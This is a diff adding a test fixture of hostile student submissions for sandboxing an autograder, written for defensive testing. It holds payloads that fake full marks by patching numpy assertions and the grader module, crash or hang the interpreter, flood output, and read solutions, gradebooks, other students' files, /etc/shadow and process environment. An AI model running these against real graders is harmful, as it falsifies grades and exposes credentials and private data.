@@ -1,0 +1,59 @@
+"""What the few hostile students of the sample class try. It runs in the sandbox only."""
+
+# Full marks in a grader that shares its interpreter with the student.
+PATCHED = """
+import builtins, sys, types, ast
+import numpy as np
+for name in dir(np.testing):
+    if name.startswith("assert"):
+        setattr(np.testing, name, lambda *a, **k: None)
+fake = types.ModuleType("autograder.checks")
+fake.judge = lambda grade_id, names: 4.0
+sys.modules["autograder"] = sys.modules["autograder.checks"] = fake
+np.allclose = np.isclose = lambda *a, **k: True
+ast.NodeTransformer.visit_Assert = lambda self, node: ast.Pass()
+get_ipython().ast_transformers.append(ast.NodeTransformer())
+"""
+
+# Ends the interpreter: in stock nbgrader the whole submission is lost.
+EXIT = """
+import os
+os._exit(0)
+"""
+
+# Never ends, and swallows interrupts.
+LOOP = """
+import time
+until = time.time() + 3600
+while time.time() < until:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass
+"""
+
+# Looks for the answers, the grades, and the other students.
+READER = """
+import glob, os, subprocess
+found = []
+for pattern in ("/**/solutions/*.py", "/**/gradebook.db", "/**/submitted/*", "/root/*"):
+    found += glob.glob(pattern, recursive=True)
+for name in ("/etc/passwd", "/etc/shadow", "/proc/1/environ"):
+    try:
+        found.append(open(name).read())
+    except OSError:
+        pass
+try:
+    import solutions
+    from solutions import *
+except ImportError:
+    pass
+print(found)
+"""
+
+# Fills whatever collects the outputs.
+FLOOD = """
+for _ in range(3_000):
+    print("x" * 50_000)
+"""
